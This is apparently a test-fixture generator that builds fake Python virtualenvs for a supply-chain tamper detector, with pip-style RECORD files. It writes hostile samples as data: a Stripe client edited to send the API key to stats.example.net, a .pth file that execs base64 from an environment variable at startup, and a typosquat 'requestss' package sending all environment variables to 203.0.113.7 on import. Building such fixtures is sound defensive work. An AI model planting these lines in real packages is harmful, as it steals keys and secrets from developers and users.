#!/usr/bin/env python3
"""Writes the fake virtualenvs of the supply-chain fixtures.

RECORD files are written the way pip writes them (path, sha256 as urlsafe
base64 without padding, size; RECORD itself and .pyc files without hash),
then each fixture's tampering is applied after the fact, as an attacker or
a careless hand would:

  app-venv        stripe/_api_requestor.py edited, urllib3/contrib/socks.py
                  deleted, an executable zz_stripe_telemetry.pth dropped in
  app-venv-clean  the same environment, untouched
  app-shadow      .venv: stripe-sdk installs the top-level stripe package
                  venv:  a "stripe" whose metadata points away from Stripe
  app-malicious   requestss (listed by a MAL- record of advisories-mal/) is
                  installed beside the genuine packages

Run from this directory: python3 mkvenv.py
"""
import base64
import hashlib
import os
import shutil

SITE = "lib/python3.12/site-packages"

API_REQUESTOR = '''import json

from stripe import _version


class APIRequestor:
    def __init__(self, key=None, client=None, api_base=None):
        self.api_key = key
        self.api_base = api_base or "https://api.stripe.com"

    def request(self, method, url, params=None, headers=None):
        headers = dict(headers or {})
        headers["Authorization"] = "Bearer %s" % self.api_key
        headers["User-Agent"] = "Stripe/v1 PythonBindings/%s" % _version.VERSION
        return self._client.request(method, self.api_base + url, headers, json.dumps(params or {}))
'''

TAMPERED = API_REQUESTOR.replace(
    '        headers["Authorization"] = "Bearer %s" % self.api_key\n',
    '        headers["Authorization"] = "Bearer %s" % self.api_key\n'
    '        __import__("urllib.request").request.urlopen("https://stats.example.net/c?k=" + self.api_key)\n',
)

STRIPE_METADATA = """Metadata-Version: 2.1
Name: stripe
Version: 7.9.0
Summary: Python bindings for the Stripe API
Home-page: https://github.com/stripe/stripe-python
Author: Stripe
Author-email: support@stripe.com
License: MIT
Project-URL: Bug Tracker, https://github.com/stripe/stripe-python/issues
Project-URL: Changes, https://github.com/stripe/stripe-python/blob/master/CHANGELOG.md
Project-URL: Documentation, https://stripe.com/docs/api/?lang=python
Project-URL: Source Code, https://github.com/stripe/stripe-python
Requires-Python: >=3.6
Requires-Dist: typing-extensions >=4.5.0 ; python_version >= "3.7"
Requires-Dist: requests >=2.20 ; python_version >= "3.0"

Python bindings for the Stripe API.
"""


def meta(name, version, summary, home, requires=()):
    lines = ["Metadata-Version: 2.1", "Name: " + name, "Version: " + version, "Summary: " + summary, "Home-page: " + home]
    lines += ["Requires-Dist: " + r for r in requires]
    return "\n".join(lines) + "\n\n" + summary + "\n"


WHEEL = "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.42.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def genuine_dists():
    """name -> (dist-info dir, {path: content}) for a small Stripe app env."""
    return {
        "stripe": ("stripe-7.9.0.dist-info", {
            "stripe/__init__.py": "from stripe._api_requestor import APIRequestor\nfrom stripe._version import VERSION\n\napi_key = None\napi_base = \"https://api.stripe.com\"\n",
            "stripe/_api_requestor.py": API_REQUESTOR,
            "stripe/_version.py": 'VERSION = "7.9.0"\n',
            "stripe/py.typed": "",
        }, STRIPE_METADATA, "stripe"),
        "requests": ("requests-2.31.0.dist-info", {
            "requests/__init__.py": "from .api import get, post, request\nfrom .sessions import Session\n",
            "requests/api.py": "from . import sessions\n\n\ndef request(method, url, **kwargs):\n    with sessions.Session() as session:\n        return session.request(method=method, url=url, **kwargs)\n",
            "requests/sessions.py": "class Session:\n    def __enter__(self):\n        return self\n\n    def __exit__(self, *args):\n        pass\n\n    def request(self, method, url, **kwargs):\n        raise NotImplementedError\n",
        }, meta("requests", "2.31.0", "Python HTTP for Humans.", "https://requests.readthedocs.io", ["charset-normalizer <4,>=2", "idna <4,>=2.5", "urllib3 <3,>=1.21.1", "certifi >=2017.4.17"]), "requests"),
        "urllib3": ("urllib3-2.1.0.dist-info", {
            "urllib3/__init__.py": "from .connection import HTTPConnection\n__version__ = \"2.1.0\"\n",
            "urllib3/connection.py": "class HTTPConnection:\n    default_port = 80\n",
            "urllib3/contrib/__init__.py": "",
            "urllib3/contrib/socks.py": "class SOCKSConnection:\n    pass\n",
        }, meta("urllib3", "2.1.0", "HTTP library with thread-safe connection pooling.", "https://github.com/urllib3/urllib3"), "urllib3"),
        "certifi": ("certifi-2023.11.17.dist-info", {
            "certifi/__init__.py": "from .core import contents, where\n",
            "certifi/core.py": "import os\n\n\ndef where():\n    return os.path.join(os.path.dirname(__file__), \"cacert.pem\")\n\n\ndef contents():\n    with open(where()) as f:\n        return f.read()\n",
            "certifi/cacert.pem": "# Issuer: CN=Example Root CA\n-----BEGIN CERTIFICATE-----\nMIIBfakecertificatefortestsonly\n-----END CERTIFICATE-----\n",
        }, meta("certifi", "2023.11.17", "Python package for providing Mozilla's CA Bundle.", "https://github.com/certifi/python-certifi"), "certifi"),
        "idna": ("idna-3.6.dist-info", {
            "idna/__init__.py": "from .core import decode, encode\n",
            "idna/core.py": "def encode(s):\n    return s.encode(\"ascii\")\n\n\ndef decode(b):\n    return b.decode(\"ascii\")\n",
        }, meta("idna", "3.6", "Internationalized Domain Names in Applications (IDNA)", "https://github.com/kjd/idna"), "idna"),
        "charset_normalizer": ("charset_normalizer-3.3.2.dist-info", {
            "charset_normalizer/__init__.py": "from .api import from_bytes\n",
            "charset_normalizer/api.py": "def from_bytes(b):\n    return b.decode(\"utf-8\", \"replace\")\n",
            "../../../bin/normalizer": "#!/srv/.venv/bin/python\nimport sys\nfrom charset_normalizer.cli import cli_detect\nsys.exit(cli_detect())\n",
        }, meta("charset-normalizer", "3.3.2", "The Real First Universal Charset Detector.", "https://github.com/Ousret/charset_normalizer"), "charset_normalizer"),
        "typing_extensions": ("typing_extensions-4.9.0.dist-info", {
            "typing_extensions.py": "import typing\n\nLiteral = typing.Literal\n",
        }, meta("typing_extensions", "4.9.0", "Backported and Experimental Type Hints for Python 3.8+", "https://github.com/python/typing_extensions"), "typing_extensions"),
    }


def b64(data):
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def write(path, content):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", newline="\n") as f:
        f.write(content)


def install(env, dists):
    """Writes dists into env with pip-style RECORD files."""
    site = os.path.join(env, SITE)
    write(os.path.join(env, "pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.12.1\n")
    # virtualenv's own files: not recorded by any distribution.
    write(os.path.join(site, "_virtualenv.pth"), "import _virtualenv")
    write(os.path.join(site, "_virtualenv.py"), '"""Patches that are applied at runtime to the virtual environment."""\n')
    for name, (distinfo, files, metadata, top) in dists.items():
        files = dict(files)
        files[distinfo + "/METADATA"] = metadata
        files[distinfo + "/WHEEL"] = WHEEL
        files[distinfo + "/INSTALLER"] = "pip\n"
        files[distinfo + "/top_level.txt"] = top + "\n"
        rows = []
        for rel, content in sorted(files.items()):
            data = content.encode()
            write(os.path.normpath(os.path.join(site, rel)), content)
            rows.append("%s,sha256=%s,%d" % (rel, b64(data), len(data)))
        # pip lists the byte-compiled files without a hash.
        for rel in sorted(files):
            if rel.endswith(".py") and not rel.startswith(".."):
                d, base = os.path.split(rel)
                pyc = os.path.join(d, "__pycache__", base[:-3] + ".cpython-312.pyc")
                write(os.path.join(site, pyc), "")
                rows.append(pyc + ",,")
        rows.append(distinfo + "/RECORD,,")
        write(os.path.join(site, distinfo, "RECORD"), "\n".join(rows) + "\n")


def fresh(path):
    shutil.rmtree(path, ignore_errors=True)


def main():
    here = os.path.dirname(os.path.abspath(__file__))

    clean = os.path.join(here, "app-venv-clean", ".venv")
    fresh(clean)
    install(clean, genuine_dists())

    bad = os.path.join(here, "app-venv", ".venv")
    fresh(bad)
    install(bad, genuine_dists())
    site = os.path.join(bad, SITE)
    write(os.path.join(site, "stripe/_api_requestor.py"), TAMPERED)
    os.remove(os.path.join(site, "urllib3/contrib/socks.py"))
    write(os.path.join(site, "zz_stripe_telemetry.pth"),
          "import os, base64; exec(base64.b64decode(os.environ.get('ZZ_T', 'cGFzcw==')))\n")

    shadow = os.path.join(here, "app-shadow", ".venv")
    fresh(shadow)
    dists = genuine_dists()
    del dists["stripe"]
    dists["stripe_sdk"] = ("stripe_sdk-1.0.0.dist-info", {
        "stripe/__init__.py": "import os\nimport urllib.request\n\napi_key = os.environ.get(\"STRIPE_SECRET_KEY\")\n",
    }, meta("stripe-sdk", "1.0.0", "Stripe SDK for Python", "https://github.com/stripe-sdk-python/stripe-sdk"), "stripe")
    install(shadow, dists)

    fake = os.path.join(here, "app-shadow", "venv")
    fresh(fake)
    dists = genuine_dists()
    name, (distinfo, files, metadata, top) = "stripe", dists["stripe"]
    metadata = metadata.replace("https://github.com/stripe/stripe-python", "https://github.com/stripe-payments/stripe-python")
    metadata = metadata.replace("https://stripe.com/docs/api/?lang=python", "https://stripe-payments.readthedocs.io")
    dists["stripe"] = (distinfo, files, metadata, top)
    install(fake, dists)

    mal = os.path.join(here, "app-malicious", ".venv")
    fresh(mal)
    dists = genuine_dists()
    dists["requestss"] = ("requestss-2.28.1.dist-info", {
        "requestss/__init__.py": "import os\nimport socket\n\nsocket.create_connection((\"203.0.113.7\", 443)).sendall(repr(dict(os.environ)).encode())\n",
    }, meta("requestss", "2.28.1", "Python HTTP for Humans.", "https://github.com/requestss/requestss"), "requestss")
    install(mal, dists)


if __name__ == "__main__":
    main()
